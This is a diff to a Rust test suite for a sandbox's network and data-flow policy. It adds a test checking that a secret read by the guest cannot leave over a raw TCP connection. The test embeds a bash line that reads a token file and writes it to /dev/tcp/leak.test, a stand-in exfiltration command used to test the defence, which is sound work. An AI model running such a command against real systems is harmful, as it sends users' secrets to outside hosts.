@@ -204,14 +204,60 @@ fn setup() -> Result<(), Failed> {
         "denied.test:127.0.0.1",
         "--add-host",
         "live.test:127.0.0.1",
+        "--add-host",
+        "leak.test:127.0.0.1",
     ])?;
     ok(&["policy", "allow", "network", "allowed.test", NAME])?;
     ok(&["policy", "deny", "network", "denied.test", NAME])?;
     ok(&["policy", "allow", "network", "localhost", NAME])?;
-    ok(&["policy", "allow", "network", "live.test", NAME])?;
+    // Raw TCP (the echo server) needs ` raw` on a name rule.
+    ok(&["policy", "allow", "network", "live.test raw", NAME])?;
+    ok(&["policy", "allow", "network", "leak.test raw", NAME])?;
+    // Reading secrets/token sets `secret-read`; no host here is a sink.
+    std::fs::write(
+        e.cli.ws.join(".sandpen.toml"),
+        "[flow]\nsecret = [\"secrets/**\"]\n",
+    )?;
+    std::fs::create_dir_all(e.cli.ws.join("secrets"))?;
+    std::fs::write(e.cli.ws.join("secrets/token"), format!("{LEAK_TOKEN}\n"))?;
     ok(&["start", NAME])?;
-    let _ = e;
     Ok(())
+}
+
+const LEAK_TOKEN: &str = "tok-4f1e8c2a9b7d";
+
+/// The guest opens a connection to an allowed host that is not a trusted
+/// sink, then reads the secret, then writes it as the connection's first
+/// bytes: they leave after the label, so the label decides them, and the
+/// listener never gets them. (The flow labels are reset afterwards, so the
+/// other tests see an unlabelled sandbox.)
+fn first_bytes_after_a_secret_read_never_leave() -> Result<(), Failed> {
+    ready()?;
+    let port = env().echo_port;
+    let script = format!(
+        "exec 3<>/dev/tcp/leak.test/{port} || exit 9; \
+         t=$(cat secrets/token); printf \"\\0%s\\n\" \"$t\" >&3 2>/dev/null; \
+         timeout 5 cat <&3; echo end"
+    );
+    let result = (|| {
+        let (code, out) = guest(&format!("bash -c '{script}'"));
+        check(out.contains("end"), format!("guest side: {code} {out}"))?;
+        check(
+            !requests_seen().contains(LEAK_TOKEN),
+            "the secret reached the listener",
+        )?;
+        let r = last_record("leak.test", port)?;
+        check(
+            r["decision"] == "deny"
+                && r["reason"]
+                    .as_str()
+                    .unwrap_or("")
+                    .starts_with("policy-changed: flow: secret-read"),
+            r.to_string(),
+        )
+    })();
+    ok(&["flow", "reset", NAME])?;
+    result
 }
 
 fn allowed_https_through_both_paths() -> Result<(), Failed> {
@@ -527,6 +573,10 @@ fn main() {
         (
             "a_policy_change_cuts_an_open_connection",
             a_policy_change_cuts_an_open_connection,
+        ),
+        (
+            "first_bytes_after_a_secret_read_never_leave",
+            first_bytes_after_a_secret_read_never_leave,
         ),
         ("no_dns_tunnel_and_no_udp_out", no_dns_tunnel_and_no_udp_out),
         ("ipv6_fails", ipv6_fails),
